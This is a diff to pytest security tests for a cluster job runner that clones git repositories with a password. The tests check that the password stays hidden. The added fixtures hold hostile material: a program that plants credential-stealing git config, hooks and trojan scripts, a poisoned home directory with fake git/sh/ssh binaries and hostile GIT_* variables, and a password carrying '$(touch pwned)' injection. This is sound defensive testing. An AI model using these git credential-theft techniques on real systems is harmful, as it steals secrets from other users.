@@ -13,13 +13,18 @@ from pathlib import Path
 
 import pytest
 
-from tests.gitserver import served
+from tests.gitserver import git, served, serving
 from tests.running import ROOT, until
 
 # Not the tests' own where they are root's: somebody without privilege cannot read that.
 PYTHON = shutil.which("python3", path="/usr/local/bin:/usr/bin:/bin") if os.getuid() == 0 else sys.executable
 DETACH = ROOT / "portal" / "onnode" / "detach.py"
-PROGRAM = ROOT / "jobs" / "onnode" / "job.py"
+ONNODE = ROOT / "jobs" / "onnode"
+# With the other modules beside it.
+PROGRAM = """import sys
+sys.path.insert(0, {!r})
+from job import main
+"""
 USERNAME, PASSWORD = "me@example.org", "t0ken: with/ö\"dd'$(touch pwned)%0asigns"
 
 # In the place of mpiexec: looks for the password wherever a program of the same person can look.
@@ -58,14 +63,28 @@ print("FOUND", found, "of", sys.argv[1:3])
 """
 
 
-@pytest.fixture
-def place():
-    """A folder of somebody without privilege: root may read everybody's memory."""
-    folder = Path(tempfile.mkdtemp(prefix="cx-private-"))
+def folder_of_somebody(prefix):
+    """Of somebody without privilege: root may read everybody's memory."""
+    folder = Path(tempfile.mkdtemp(prefix=prefix))
     folder.chmod(0o755)
     if os.getuid() == 0:
         nobody = pwd.getpwnam("nobody")
         os.chown(folder, nobody.pw_uid, nobody.pw_gid)
+    return folder
+
+
+@pytest.fixture
+def place():
+    """What all nodes of a workspace share."""
+    folder = folder_of_somebody("cx-private-")
+    yield folder
+    shutil.rmtree(folder)
+
+
+@pytest.fixture
+def node():
+    """What the head node has for itself."""
+    folder = folder_of_somebody("cx-node-")
     yield folder
     shutil.rmtree(folder)
 
@@ -82,26 +101,28 @@ def repository():
 
 
 @pytest.fixture
-def run(place, as_whom, repository):
+def run(place, node, as_whom, repository):
     engine = place / "engine"
     (engine / "bin").mkdir(parents=True)
     (engine / "bin" / "mpiexec").write_text(SNOOP.format(python=PYTHON))
     (engine / "bin" / "mpiexec").chmod(0o755)
     (engine / "bin" / "python").symlink_to(PYTHON)
-    programs = [shutil.copy(program, place / program.name) for program in (DETACH, PROGRAM)]
+    detach, program = shutil.copy(DETACH, place / DETACH.name), place / "program.py"
+    shutil.copytree(ONNODE, place / "onnode", ignore=shutil.ignore_patterns("__pycache__"))
+    program.write_text(PROGRAM.format(str(place / "onnode")))
 
-    def go(credential=(USERNAME, PASSWORD), url=repository):
-        folder = place / "run"
+    def go(credential=(USERNAME, PASSWORD), url=repository, env=None, name="run", **more):
+        folder = place / name
         order = {
             "git_url": url, "reference": "", "command": ["--", str(place)], "cores": 6, "hostfile": "/hosts",
             "engine": str(engine), "shared": str(place / "shared"), "allow_this_machine": True,
-            "environment": {"COXSWAIN_RUN": "r1"},
+            "environment": {"COXSWAIN_RUN": "r1"}, "scratch": str(node), **more,
         }  # fmt: skip
         files = {"job.json": json.dumps(order)}
-        start = {"argv": [str(folder)], "program": str(programs[1]), "env": {}, "files": files}
+        start = {"argv": [str(folder)], "program": str(program), "env": env or {}, "files": files}
         if credential:
             start["secret"] = json.dumps(dict(zip(("username", "password"), credential, strict=True)))
-        command = [PYTHON, "-IS", str(programs[0]), "start", str(folder)]
+        command = [PYTHON, "-IS", str(detach), "start", str(folder)]
         subprocess.run(command, input=json.dumps(start).encode(), check=True, capture_output=True,
                        env={**os.environ, "KEPT": "yes"}, **as_whom)  # fmt: skip
         until(lambda: (folder / "exit").exists(), seconds=30, what="the end")
@@ -111,8 +132,8 @@ def run(place, as_whom, repository):
     return go
 
 
-def test_it_is_cloned_and_the_program_finds_the_password_nowhere(run, place):
-    facts, out, said = run()
+def test_it_is_cloned_and_the_program_finds_the_password_nowhere(run, place, node):
+    facts, out, said = run(command=["--", str(place), str(node)])
     assert facts["subject"] == "Files", said
     assert "FOUND [] of ['-n', '6']" in out
     assert "KEEPER True True" in out, "what sweeps the node sees it by its environment"
@@ -120,10 +141,10 @@ def test_it_is_cloned_and_the_program_finds_the_password_nowhere(run, place):
     assert not list(place.rglob("pwned"))
 
 
-def test_nothing_of_it_stays_for_other_runs(run, place):
+def test_nothing_of_it_stays_for_other_runs(run, place, node):
     run()
     assert not (place / "shared").exists()
-    assert not (place / "run" / "sources").exists()
+    assert not list(node.iterdir())
     assert "t0ken" not in (place / "run" / "src" / ".git" / "config").read_text()
 
 
@@ -144,3 +165,162 @@ def test_without_any_it_is_said_that_the_job_can_have_one(run):
 def test_a_password_is_no_use_over_ssh(run):
     facts, _, _ = run(url="ssh://git@127.0.0.1/x")
     assert facts["failure"]["message"] == ("A user name and a password are for addresses that begin with https://.")
+
+
+# A hostile program: of a run of another cluster, which may change what lies on /shared at any moment; or of an earlier
+# run on the same node, which left things where programs look
+
+HOSTILE = """
+import os, pathlib, sys
+place, *watched = map(pathlib.Path, sys.argv[1:])
+thief = place / "thief"
+thief.write_text(f"#!/bin/sh\\ntimeout 1 cat /proc/self/fd/[3-9] /proc/self/fd/[1-9][0-9] >> {place}/LOOT 2>&1\\n")
+thief.chmod(0o755)
+config = f'''[credential]
+helper = "!f() {{ cat >> {place}/LOOT; }}; f"
+[core]
+askPass = {thief}
+fsmonitor = {thief}
+hooksPath = {place}
+sshCommand = {thief}
+alternateRefsCommand = {thief}
+'''
+for name in ("reference-transaction", "post-checkout", "pre-auto-gc"):
+    (place / name).symlink_to(thief)
+while True:
+    for top in watched:
+        for at, folders, files in os.walk(top):
+            folders[:] = [name for name in folders if name != "src"]  # what has arrived is to be had anyway
+            try:
+                if "objects" in folders:
+                    path = pathlib.Path(at, "config")
+                    if "thief" not in (path.read_text() if path.exists() else ""):
+                        with path.open("a") as file:
+                            file.write(config)
+                    pathlib.Path(at, "objects", "info").mkdir(exist_ok=True)
+                    pathlib.Path(at, "objects", "info", "alternates").write_text(f"{place}/other/objects\\n")
+                for file in files:
+                    path = pathlib.Path(at, file)
+                    if path.stat().st_mode & 0o100 and path.name not in ("thief", "mpiexec"):
+                        path.write_bytes(thief.read_bytes())
+            except OSError:
+                pass
+    if not (place / "run" / ".git").exists():
+        for top in (place, place / "run", place / "shared"):
+            if top.exists():
+                (top / ".git" / "objects").mkdir(parents=True, exist_ok=True)
+                (top / ".git" / "refs").mkdir(exist_ok=True)
+                (top / ".git" / "HEAD").write_text("ref: refs/heads/main\\n")
+                (top / ".git" / "config").write_text(config)
+    (place / "ready").touch()
+"""
+
+
+@pytest.fixture
+def forge(place, as_whom):
+    """A server that asks for the password: of a repository with a submodule of the same server."""
+    folder = Path(tempfile.mkdtemp(prefix="cx-forge-"))
+    for name in ("library", "main"):
+        (folder / name).mkdir()
+        git(folder / name, "init", "--quiet", "--initial-branch=main")
+        (folder / name / f"{name}.py").write_text("X = 1\n")
+        git(folder / name, "add", ".")
+        git(folder / name, "commit", "--quiet", "-m", "Files")
+    (folder / "main" / ".gitmodules").write_text('[submodule "l"]\n\tpath = lib\n\turl = ../library\n')
+    git(folder / "main", "add", ".gitmodules")
+    library = git(folder / "library", "rev-parse", "main")
+    git(folder / "main", "update-index", "--add", "--cacheinfo", f"160000,{library},lib")
+    git(folder / "main", "commit", "--quiet", "-m", "With a submodule")
+    with serving(folder) as server:
+        server.asks_for = (USERNAME, PASSWORD)
+        yield server
+    shutil.rmtree(folder)
+
+
+@pytest.fixture
+def hostile(place, as_whom):
+    """Starts it; it changes all repositories and programs below these folders, over and over."""
+    subprocess.run(["git", "init", "--quiet", "--bare", str(place / "other")], check=True, **as_whom)
+    started = []
+
+    def start(*folders):
+        started.append(subprocess.Popen([PYTHON, "-ISc", HOSTILE, str(place), *map(str, folders)], **as_whom))
+        until(lambda: (place / "ready").exists(), what="the hostile program")
+
+    yield start
+    for process in started:
+        process.kill()
+        process.wait()
+
+
+def loot(place):
+    return (place / "LOOT").read_text(errors="replace") if (place / "LOOT").exists() else ""
+
+
+def test_a_hostile_program_of_another_cluster_does_not_get_it(run, place, forge, hostile):
+    hostile(place / "shared", place / "run", place / "home")
+    facts, _, said = run(url=f"{forge.url}/main")
+    assert facts.get("subject") == "With a submodule", said
+    assert (place / "run" / "src" / "lib" / "library.py").exists(), said
+    assert "t0ken" not in loot(place)
+
+
+def test_it_would_where_it_reaches_what_git_uses(run, place, node, forge, hostile):
+    """That what the test above shows is not the hostile program's weakness."""
+    hostile(node)
+    for n in range(10):
+        run(url=f"{forge.url}/main", name=f"run-{n}")
+        if "t0ken" in loot(place):
+            return
+    pytest.fail(loot(place))
+
+
+def test_what_an_earlier_run_left_in_the_home_does_not_get_it(run, place, as_whom, forge):
+    home = place / "home"
+    (home / "bin").mkdir(parents=True)
+    (home / ".config" / "git").mkdir(parents=True)
+    thief = f"#!/bin/sh\ncat /proc/self/fd/[3-9] >> {place}/LOOT\nexit 1\n"
+    config = f'[credential]\n\thelper = "!cat >> {place}/LOOT; :"\n[core]\n\taskPass = {home}/bin/git\n'
+    config += f'[url "http://127.0.0.1:1/"]\n\tinsteadOf = {forge.url}/\n'
+    for path in (".gitconfig", ".config/git/config"):
+        (home / path).write_text(config)
+    for name in ("git", "cat", "sh", "ssh", "git-remote-http"):
+        (home / "bin" / name).write_text(thief)
+        (home / "bin" / name).chmod(0o755)
+    env = {
+        "HOME": str(home), "XDG_CONFIG_HOME": str(home / ".config"), "TMPDIR": str(home),
+        "GIT_EXEC_PATH": f"{home}/bin",
+        "PATH": f"{home}/bin:{os.environ['PATH']}", "GIT_ASKPASS": f"{home}/bin/git", "GIT_TRACE_CURL": f"{place}/LOOT",
+        "GIT_CONFIG_PARAMETERS": "'credential.helper'='!cat >> LOOT'", "GIT_TRACE_REDACT": "0", "GIT_DIR": str(place),
+        "GIT_TEMPLATE_DIR": str(home), "GIT_PROXY_COMMAND": f"{home}/bin/git",
+    }  # fmt: skip
+    facts, _, said = run(url=f"{forge.url}/main", env=env)
+    assert facts.get("subject") == "With a submodule", said
+    assert "t0ken" not in loot(place)
+    assert not (place / "LOOT").exists()
+
+
+def test_it_is_given_to_no_other_server(run, place, forge, tmp_path):
+    """Neither to one that the repository's redirects to, nor to that of a submodule."""
+    with serving(Path(forge.folder)) as other:
+        forge.moved["/gone/"] = f"{other.url}/main/"
+        other.moved["/library/"] = f"{forge.url}/library/"
+        facts, _, said = run(url=f"{forge.url}/gone")
+        assert facts.get("subject") == "With a submodule", said
+        assert f"The password is for {forge.url} and is not given to {other.url}" in said
+        assert other.asked
+        assert not [path for path, authorization in other.asked if authorization]
+
+
+def test_a_submodule_of_another_server_is_not_signed_in_to(run, place, forge):
+    with serving(Path(forge.folder)) as other:
+        other.asks_for = (USERNAME, PASSWORD)
+        main = Path(forge.folder) / "main"
+        git(main, "config", "--file", ".gitmodules", "submodule.l.url", f"{other.url}/library")
+        git(main, "add", ".gitmodules")
+        git(main, "commit", "--quiet", "-m", "Of another server")
+        facts, _, said = run(url=f"{forge.url}/main")
+        assert facts.get("subject") == "Of another server", said
+        assert "The submodule lib is not fetched" in said
+        assert other.asked
+        assert not [path for path, authorization in other.asked if authorization]
